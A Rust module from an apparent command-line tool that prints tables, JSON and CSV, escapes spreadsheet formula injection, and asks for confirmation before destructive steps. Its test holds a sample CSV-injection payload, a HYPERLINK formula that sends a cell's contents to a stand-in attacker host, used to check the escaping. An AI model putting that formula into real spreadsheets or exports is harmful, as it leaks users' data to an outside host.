//! How commands print: tables (comfy-table), JSON and CSV with the contract's
//! field names, and confirmation prompts.

use anyhow::{bail, Context};
use comfy_table::{presets, ContentArrangement, Table};
use serde::Serialize;
use std::io::{IsTerminal, Write};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Table,
    Json,
    Csv,
}

/// A table: box drawing on a terminal, plain ASCII in pipes and cron mail.
pub fn table(header: &[&str]) -> Table {
    let mut t = Table::new();
    let preset = if std::io::stdout().is_terminal() {
        presets::UTF8_FULL_CONDENSED
    } else {
        presets::ASCII_FULL_CONDENSED
    };
    t.load_preset(preset)
        .set_content_arrangement(ContentArrangement::Dynamic)
        .set_header(header.to_vec());
    t
}

pub fn print_json<T: Serialize + ?Sized>(value: &T) -> anyhow::Result<()> {
    // Buffered: stdout alone writes each line of pretty JSON on its own
    // (a system call per field, 2 s for 100,000 users).
    let mut out = std::io::BufWriter::with_capacity(64 * 1024, std::io::stdout().lock());
    serde_json::to_writer_pretty(&mut out, value).context("cannot write JSON")?;
    writeln!(out)?;
    out.flush()?;
    Ok(())
}

/// CSV with a header row of the JSON field names; arrays joined by commas.
pub fn print_csv<T: Serialize>(rows: &[T], header: &[&str]) -> anyhow::Result<()> {
    let mut w = csv::Writer::from_writer(std::io::stdout().lock());
    w.write_record(header)?;
    for row in rows {
        let value = serde_json::to_value(row)?;
        let record: Vec<String> = header.iter().map(|h| csv_cell(&value[*h])).collect();
        w.write_record(&record)?;
    }
    w.flush()?;
    Ok(())
}

fn csv_cell(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::Null => String::new(),
        serde_json::Value::String(s) => csv_text(s),
        serde_json::Value::Array(a) => csv_text(
            &a.iter()
                .map(|x| {
                    x.as_str()
                        .map(str::to_owned)
                        .unwrap_or_else(|| x.to_string())
                })
                .collect::<Vec<_>>()
                .join(","),
        ),
        other => other.to_string(),
    }
}

/// A text cell that a spreadsheet would run as a formula (a leading `=`,
/// `+`, `-`, `@`, tab or carriage return: a model name a client chose, a
/// note) is kept as text with a leading `'`, as OWASP advises.
pub fn csv_text(s: &str) -> String {
    match s.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{s}"),
        _ => s.to_owned(),
    }
}

/// Asks before a destructive step. Without a terminal `--yes` is required,
/// so a script never hangs on a prompt it cannot answer.
pub fn confirm(question: &str, yes: bool) -> anyhow::Result<()> {
    if yes {
        return Ok(());
    }
    if !std::io::stdin().is_terminal() {
        bail!("{question} needs confirmation: pass --yes (stdin is not a terminal)");
    }
    let ok = dialoguer::Confirm::new()
        .with_prompt(question)
        .default(false)
        .interact()
        .context("cannot read the answer")?;
    if !ok {
        bail!("cancelled");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    #[test]
    fn formulas_stay_text() {
        for (given, shown) in [
            (
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")",
                "'=HYPERLINK(\"https://evil.example/?\"&A1,\"gpt-4o\")",
            ),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("gpt-4o", "gpt-4o"),
            ("", ""),
        ] {
            assert_eq!(super::csv_text(given), shown);
        }
    }
}
